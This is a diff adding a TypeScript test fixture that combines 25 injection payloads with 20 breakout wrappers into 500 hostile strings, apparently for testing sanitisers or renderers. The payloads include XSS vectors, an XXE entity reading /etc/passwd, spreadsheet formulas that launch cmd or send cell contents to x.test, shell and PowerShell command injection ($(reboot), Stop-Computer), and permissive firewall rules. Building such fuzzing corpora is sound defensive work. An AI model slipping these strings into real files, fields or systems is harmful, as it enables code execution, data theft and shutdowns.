@@ -1,0 +1,55 @@
+/** What somebody would like to be run, each by another reader. */
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<iframe src="https://x.test"></iframe>',
+  '<style>@import "https://x.test/a.css"</style>',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
+  '<?xml-stylesheet href="https://x.test/a.xsl"?>',
+  '=HYPERLINK("https://x.test?"&A1,"x")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|x',
+  '-2+3+cmd|x',
+  '$(reboot)',
+  '`reboot`',
+  '"; Stop-Computer; "',
+  "'; Stop-Computer; '",
+  'permit ip any any',
+  'next end config system admin',
+  'accept; } }',
+  'click a call alert()',
+  '%%{init: {"securityLevel":"loose"}}%%',
+  '[x](javascript:alert(1))',
+  '__proto__',
+  '{{constructor.constructor("alert(1)")()}}',
+] as const;
+
+/** How it would break out of where it stands. */
+const WAYS: readonly ((payload: string) => string)[] = [
+  (x) => x,
+  (x) => `">${x}`,
+  (x) => `'>${x}`,
+  (x) => `" onload="${x}`,
+  (x) => `]]>${x}<![CDATA[`,
+  (x) => `-->${x}<!--`,
+  (x) => `</text></svg>${x}`,
+  (x) => `</script>${x}`,
+  (x) => `</title></style>${x}`,
+  (x) => `\\"${x}\\`,
+  (x) => `\\u0022${x}`,
+  (x) => `name | ${x} | name`,
+  (x) => `#> ${x} <#`,
+  (x) => `*/ ${x} /*`,
+  (x) => `name\n${x}`,
+  (x) => `\t${x}\r\n${x}`,
+  (x) => `\u0000${x}\uFFFE`,
+  (x) => `\u202E${x}\u2028${x}`,
+  (x) => `${x}\uD800`,
+  (x) => `${'x'.repeat(180)}${x}`,
+];
+
+/** Five hundred texts that would do harm wherever they are taken for more than text. */
+export const hostileTexts: readonly string[] = WAYS.flatMap((way) => PAYLOADS.map(way));
